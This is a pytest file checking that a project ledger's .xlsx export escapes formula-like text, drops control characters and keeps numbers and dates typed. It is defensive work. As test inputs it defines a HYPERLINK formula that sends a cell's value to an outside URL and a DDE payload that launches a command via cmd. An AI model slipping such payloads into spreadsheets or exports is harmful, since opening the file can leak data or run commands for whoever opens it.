"""The ledger's .xlsx export is spreadsheet-safe (OWASP CSV injection): text never becomes a
formula, control characters openpyxl refuses are dropped, numbers and dates stay typed."""
import datetime
import io

import pytest
from openpyxl import load_workbook

from tests.factories import make_project, make_task_force, make_user
from tracker import clock
from tracker.domain import pipeline
from tracker.models import Project
from tracker.services import ledger, ledger_export

HYPERLINK = '=HYPERLINK("http://x?y="&A1,"点击")'
DDE = "=cmd|' /C calc'!A0"


def _sheet(filters=None):
    data = ledger_export.export_xlsx(ledger.filtered(filters or {"sort": "name", "dir": "asc"}))
    return load_workbook(io.BytesIO(data)).active


def _row_of(sheet, name):
    for row in sheet.iter_rows(min_row=2):
        if row[0].value == name:
            return row
    raise AssertionError(f"{name!r} not exported: {[r[0].value for r in sheet.iter_rows()]}")


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("ctl\x08bs", "ctlbs"), ("\x08=1", "'=1"),
    ("普通文字", "普通文字"), ("a=b", "a=b"), ("", ""),
])
def test_safe_text(value, shown):
    assert ledger_export.safe_text(value) == shown


def test_numbers_dates_and_empty_cells_are_unchanged():
    day = datetime.date(2026, 3, 1)
    assert [ledger_export.safe_value(v) for v in (1.5, -3, day, None, True)] == \
        [1.5, -3, day, None, True]


def test_formula_like_text_comes_back_as_quoted_string_cells(db):
    teams = [make_task_force(f"T{i}", f"{c}专班") for i, c in enumerate("@+-")]
    make_project(teams[0], HYPERLINK, investor=DDE)
    make_project(teams[1], "项目乙", investor="+86 138")
    make_project(teams[2], "项目丙", investor="-减号")
    sheet = _sheet()
    first = _row_of(sheet, "'" + HYPERLINK)
    assert first[0].data_type == "s" and first[3].value == "'" + DDE and first[3].data_type == "s"
    assert first[1].value == "'@专班" and first[1].data_type == "s"
    assert _row_of(sheet, "项目乙")[1].value == "'+专班"
    assert _row_of(sheet, "项目乙")[3].value == "'+86 138"
    assert _row_of(sheet, "项目丙")[1].value == "'-专班"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate


def test_a_stored_control_character_is_dropped_not_a_failure(db):
    team = make_task_force("TF1", "精细化工专班")
    project = make_project(team, "旧数据项目", investor="旧投资方")
    # an old row from before the normaliser refused control characters
    Project.update(name="ctl\x08bs", investor="=x\x1f").where(Project.id == project.id).execute()
    row = _row_of(_sheet(), "ctlbs")
    assert row[3].value == "'=x" and row[3].data_type == "s"


def test_a_normal_row_is_unchanged(db):
    team = make_task_force("TF1", "精细化工专班")
    user = make_user("boss", "bureau")
    on = clock.today() - datetime.timedelta(days=3)
    make_project(team, "乙烯下游一体化", user=user, investor="华锦集团",
                 planned_investment="250000.5", contract_value="60000", stage=pipeline.SIGNED,
                 on=on)
    sheet = _sheet()
    assert [c.value for c in sheet[1]][:4] == ["项目名称", "所属专班", "区县/开发区", "投资方"]
    row = _row_of(sheet, "乙烯下游一体化")
    assert [c.value for c in row[:4]] == ["乙烯下游一体化", "精细化工专班", None, "华锦集团"]
    assert row[8].value == 250000.5 and row[8].data_type == "n"
    assert row[9].value == 60000 and row[9].number_format == "#,##0.00"
    assert row[14].value == datetime.datetime.combine(on, datetime.time())
    assert row[14].is_date and row[14].number_format == "yyyy-mm-dd"
    assert row[11].value == pipeline.label(pipeline.SIGNED)


def test_export_page_with_hostile_and_broken_rows(app, client, auth):
    with app.app_context():
        team = make_task_force("TF1", "@专班")
        make_user("boss", "bureau")
        make_project(team, HYPERLINK, investor=DDE)
        broken = make_project(team, "旧数据项目")
        Project.update(name="ctl\x08bs").where(Project.id == broken.id).execute()
    auth.login("boss")
    response = client.get("/projects/export.xlsx")
    assert response.status_code == 200
    assert response.mimetype == ("application/vnd.openxmlformats-officedocument."
                                 "spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(response.data)).active
    names = sorted(row[0] for row in sheet.iter_rows(min_row=2, values_only=True))
    assert names == sorted(["'" + HYPERLINK, "ctlbs"])
